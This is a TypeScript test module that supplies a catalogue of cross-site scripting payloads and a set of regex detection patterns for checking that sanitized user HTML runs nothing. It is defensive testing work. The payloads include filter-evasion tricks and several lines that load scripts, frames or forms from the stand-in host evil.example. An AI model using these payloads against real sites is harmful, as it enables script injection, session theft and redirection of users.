/**
 * Script-injection attempts every field that takes user HTML is tested with (descriptions, posts, landing
 * blocks), and the check that what a page would render from them runs nothing. Modules' tests import both.
 */
export const XSS_PAYLOADS: readonly { name: string; html: string }[] = [
  { name: 'script tag', html: '<script>alert(1)</script>' },
  { name: 'script with src', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'uppercase script', html: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'split script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror quoted', html: '<img src="/a.png" onerror="alert(1)">' },
  { name: 'svg onload', html: '<svg onload=alert(1)><circle r="1"/></svg>' },
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'math mtext', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'body onload', html: '<body onload=alert(1)>' },
  { name: 'p onclick', html: '<p onclick="alert(1)">klik</p>' },
  { name: 'mouse handler with spaces', html: '<a href="https://contoh.id" onmouseover = "alert(1)">x</a>' },
  { name: 'javascript link', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'javascript link mixed case', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'javascript link with entities', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'javascript link with spaces', html: '<a href="  javascript:alert(1)">x</a>' },
  { name: 'javascript link encoded colon', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'data html link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  { name: 'data image src', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  { name: 'javascript img src', html: '<img src="javascript:alert(1)">' },
  { name: 'protocol-relative src', html: '<img src="//evil.example/x.png">' },
  { name: 'iframe from anywhere', html: '<iframe src="https://evil.example/embed/x"></iframe>' },
  { name: 'iframe javascript', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  {
    name: 'iframe lookalike host',
    html: '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  },
  { name: 'iframe youtube over http', html: '<iframe src="http://www.youtube.com/embed/x"></iframe>' },
  { name: 'object', html: '<object data="https://evil.example/x.swf"></object>' },
  { name: 'embed', html: '<embed src="https://evil.example/x.swf">' },
  { name: 'style tag', html: '<style>body{background:url(javascript:alert(1))}</style>' },
  { name: 'style attribute', html: '<p style="background:url(javascript:alert(1))">x</p>' },
  { name: 'form', html: '<form action="https://evil.example"><input name="p"><button>go</button></form>' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { name: 'base href', html: '<base href="https://evil.example/">' },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>' },
  { name: 'product card with handler', html: '<div data-product-card="1" onclick="alert(1)"></div>' },
  { name: 'product card with script id', html: '<div data-product-card="1&quot; onclick=&quot;x"></div>' },
  { name: 'comment breakout', html: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'cdata', html: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'noscript breakout', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'template', html: '<template><script>alert(1)</script></template>' },
  { name: 'closing the data island', html: '</script><script>alert(1)</script>' },
  { name: 'unicode escapes', html: '<a href="\u006Aavascript:alert(1)">x</a>' },
];

const DANGERS: { name: string; pattern: RegExp }[] = [
  { name: 'script element', pattern: /<\s*script/i },
  { name: 'event handler', pattern: /<[^>]*\son[a-z]+\s*=/i },
  {
    name: 'script address',
    pattern: /(href|src|action|data|formaction)\s*=\s*["']?\s*(javascript|vbscript|data):/i,
  },
  {
    name: 'foreign iframe',
    pattern:
      /<iframe(?![^>]*src="https:\/\/(www\.)?(youtube\.com|youtube-nocookie\.com)\/embed\/|[^>]*src="https:\/\/player\.vimeo\.com\/video\/)/i,
  },
  { name: 'srcdoc', pattern: /\ssrcdoc\s*=/i },
  {
    name: 'active element',
    pattern: /<\s*(object|embed|style|form|input|button|meta|base|link|svg|math|template|body)\b/i,
  },
  { name: 'style attribute', pattern: /<[^>]*\sstyle\s*=/i },
  { name: 'protocol-relative address', pattern: /(href|src)\s*=\s*["']?\/\//i },
];

/** What in a piece of HTML could run script or leave the page, or undefined when it is inert. */
export function findDanger(html: string): string | undefined {
  return DANGERS.find((danger) => danger.pattern.test(html))?.name;
}
